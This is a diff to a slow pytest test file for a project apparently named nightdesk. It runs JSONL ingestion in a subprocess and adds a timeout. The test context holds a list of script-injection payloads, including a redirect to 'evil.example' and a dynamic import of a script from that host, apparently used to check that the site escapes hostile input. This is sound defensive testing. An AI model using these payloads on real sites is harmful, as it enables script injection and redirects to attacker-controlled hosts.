@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import re
+import subprocess
+import sys
 from collections.abc import Iterator
 from html.parser import HTMLParser
 from itertools import islice, product
@@ -13,7 +15,6 @@ import pytest
 from starlette.routing import Route
 
 from nightdesk.app import App
-from nightdesk.cli.main import run
 from nightdesk.config import load_config
 from nightdesk.web.server import Server
 from nightdesk.web.site import make_site
@@ -21,7 +22,7 @@ from tests.alerting import Newsroom
 from tests.asking import Asker
 from tests.conftest import FakeClock
 
-pytestmark = pytest.mark.slow
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(1200)]  # a thousand pages
 
 _DEEDS = ("alert(7)", "top.location='//evil.example'", "import('//evil.example/x.js')", "eval(name)")
 _VECTORS = (
@@ -145,7 +146,10 @@ def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Asker]:
             }
         )
     (folder / "hostile.jsonl").write_text("\n".join(json.dumps(line) for line in lines))
-    assert run(["--config", str(file), "ingest", "--format", "jsonl", str(folder / "hostile.jsonl")]) == 0
+    ingest = [sys.executable, "-m", "nightdesk", "ingest", "--format", "jsonl", "hostile.jsonl"]
+    # A process of its own: the reactor it needs may be running here for other tests, and starts only once.
+    taken = subprocess.run(ingest, cwd=folder, capture_output=True, text=True, timeout=600)
+    assert taken.returncode == 0, taken.stderr
     clock = FakeClock()
     with App.open(load_config(file, {}), "test", clock) as app:
         site = make_site(app)
